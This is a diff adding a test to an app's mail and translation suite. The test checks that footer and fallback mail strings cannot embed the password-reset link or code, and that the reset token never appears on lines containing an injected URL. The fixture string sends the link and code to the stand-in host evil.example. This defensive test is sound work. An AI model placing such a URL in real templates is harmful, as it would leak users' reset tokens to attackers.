@@ -79,6 +79,31 @@ it("stand around letters, too", async () => {
   expect((await takeMail(a)).text).toMatch(/^Thư của .+, không cần trả lời\.$/m);
 });
 
+it("around letters know neither their links nor their codes, whoever wrote them", async () => {
+  await emptyMailbox(a);
+  const evil = "{{business}} https://evil.example/?t={{link}}&c={{code}}&{{ link }}";
+  for (const key of ["mail:footer", "mail:fallback"])
+    expect(await write([{ key, text: evil }])).toMatchObject({
+      status: 422,
+      data: { errors: { "changes.0.text": expect.any(Array) } },
+    });
+  // Operators write what they like.
+  await a.db
+    .insert(translations, { locale: "vi", messages: { mail: { footer: evil, fallback: evil } }, updatedAt: 1 })
+    .run();
+  await call(a.host, "/auth/forgot-password", {
+    body: { email: "learner@example.test" },
+    headers: { "Accept-Language": "vi" },
+  });
+  const { text, html } = await takeMail(a);
+  const [token] = /(?<=\/auth\/password\/reset\/)[\w-]{43}/.exec(text) ?? [];
+  expect(token).toBeDefined();
+  for (const written of [text, html])
+    for (const line of written.split(/\n|<br>/).filter((one) => one.includes("evil.example")))
+      expect(line).not.toContain(token);
+  expect(text).toContain("https://evil.example/?t={{link}}&c={{code}}&{{ link }}");
+});
+
 it.each([
   ["a placeholder dropped", "common:frame.account.label", "Tài khoản", "text"],
   ["a placeholder made up", "home:title", "{{name}}", "text"],
